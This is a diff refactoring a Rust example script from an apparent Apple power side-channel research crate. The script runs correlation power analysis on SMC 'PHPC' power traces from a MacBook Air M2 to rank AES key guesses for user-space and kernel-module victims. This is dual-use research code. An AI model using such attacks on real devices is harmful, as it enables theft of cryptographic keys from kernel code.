@@ -8,11 +8,13 @@
 //!
 //! Run with: `cargo run --release --example kernel_attack -- [traces]`
 
+use apple_power_sca::core::source::Schedule;
 use apple_power_sca::core::{Campaign, Device, VictimKind};
-use apple_power_sca::sca::cpa::Cpa;
 use apple_power_sca::sca::model::Rd0Hw;
-use apple_power_sca::sca::rank::{ge_curve, guessing_entropy, log_checkpoints};
+use apple_power_sca::sca::rank::{guessing_entropy, log_checkpoints};
 use apple_power_sca::smc::key::key;
+use apple_power_sca::telemetry::processors::CpaGrid;
+use apple_power_sca::telemetry::ChannelId;
 
 fn main() {
     let traces: usize = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(40_000);
@@ -25,23 +27,31 @@ fn main() {
     println!("attacking the kernel AES module with {traces} PHPC traces per victim...");
     let mut results = Vec::new();
     for kind in [VictimKind::UserSpace, VictimKind::KernelModule] {
-        let sets = Campaign::live(Device::MacbookAirM2, kind, secret_key, 0xBEEF)
+        // Ranks at log-spaced trace counts, streamed: no trace is kept.
+        let checkpoints = log_checkpoints((traces / 50).max(50), traces, 3);
+        let grid = Campaign::live(Device::MacbookAirM2, kind, secret_key, 0xBEEF)
             .keys(&[key("PHPC")])
             .traces(traces)
             .shards(shards)
             .session()
-            .collect();
-        let set = &sets[&key("PHPC")];
-        let checkpoints = log_checkpoints((traces / 50).max(50), traces, 3);
-        let curve = ge_curve(Cpa::new(Box::new(Rd0Hw)), set, &secret_key, &checkpoints);
-
-        let mut cpa = Cpa::new(Box::new(Rd0Hw));
-        cpa.add_set(set);
-        let ge = guessing_entropy(&cpa.ranks(&secret_key));
+            .analyze(
+                |n| Schedule::KnownPlaintext { traces: n },
+                |slice| {
+                    CpaGrid::new(
+                        ChannelId::Smc(key("PHPC")),
+                        &[|| Box::new(Rd0Hw)],
+                        &checkpoints,
+                        slice,
+                    )
+                },
+            )
+            .into_analysis()
+            .expect("some shard survived");
+        let ge = guessing_entropy(&grid.cpas()[0].ranks(&secret_key));
         println!("\n== {kind:?}: final GE {ge:.1} bits ==");
         println!("   traces        GE");
-        for p in &curve.points {
-            println!("   {:>7}   {:>7.1}", p.traces, p.ge);
+        for (n, cpas) in grid.points() {
+            println!("   {:>7}   {:>7.1}", n, guessing_entropy(&cpas[0].ranks(&secret_key)));
         }
         results.push((kind, ge));
     }
